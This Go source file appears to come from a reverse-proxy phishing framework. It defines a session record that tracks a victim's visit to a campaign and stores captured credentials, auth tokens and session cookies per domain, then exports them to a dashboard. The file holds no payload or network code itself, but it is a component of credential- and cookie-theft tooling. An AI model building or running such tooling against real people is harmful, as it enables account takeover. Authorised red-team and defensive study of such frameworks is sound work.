package core

import (
	"sync"
	"time"

	"github.com/snarelabs/snare/database/storage"
)

const (
	StatusActive   = "active"
	StatusCaptured = "captured"
	StatusClosed   = "closed"
)

// Session tracks one victim's interaction sequence with a campaign. Fields
// are guarded by the session's own lock; unrelated sessions never contend.
type Session struct {
	Id           string
	Phishlet     string
	LandingURL   string
	RemoteAddr   string
	UserAgent    string
	Credentials  map[string]string
	Tokens       map[string]string
	CookieTokens map[string]map[string]*storage.CookieToken
	Status       string
	CreateTime   time.Time
	LastSeen     time.Time

	lock sync.Mutex
}

func NewSession(phishlet string) *Session {
	now := time.Now().UTC()
	return &Session{
		Id:           GenRandomToken(),
		Phishlet:     phishlet,
		Credentials:  make(map[string]string),
		Tokens:       make(map[string]string),
		CookieTokens: make(map[string]map[string]*storage.CookieToken),
		Status:       StatusActive,
		CreateTime:   now,
		LastSeen:     now,
	}
}

// addCookieToken merges a captured cookie into the session's jar,
// last-write-wins per (domain, name). Caller holds the session lock.
func (s *Session) addCookieToken(domain string, ck *storage.CookieToken) {
	if _, ok := s.CookieTokens[domain]; !ok {
		s.CookieTokens[domain] = make(map[string]*storage.CookieToken)
	}
	s.CookieTokens[domain][ck.Name] = ck
}

// Export renders the session in the interchange shape the dashboard reads.
func (s *Session) Export() *storage.Session {
	s.lock.Lock()
	defer s.lock.Unlock()

	creds := make(map[string]string, len(s.Credentials))
	for k, v := range s.Credentials {
		creds[k] = v
	}
	tokens := make(map[string]string, len(s.Tokens))
	for k, v := range s.Tokens {
		tokens[k] = v
	}
	cookies := make(map[string]map[string]*storage.CookieToken, len(s.CookieTokens))
	for d, m := range s.CookieTokens {
		cookies[d] = make(map[string]*storage.CookieToken, len(m))
		for n, ck := range m {
			c := *ck
			cookies[d][n] = &c
		}
	}

	return &storage.Session{
		SessionId:    s.Id,
		Phishlet:     s.Phishlet,
		LandingURL:   s.LandingURL,
		Credentials:  creds,
		Tokens:       tokens,
		CookieTokens: cookies,
		Status:       s.Status,
		UserAgent:    s.UserAgent,
		RemoteAddr:   s.RemoteAddr,
		CreateTime:   s.CreateTime.Unix(),
		UpdateTime:   s.LastSeen.Unix(),
	}
}
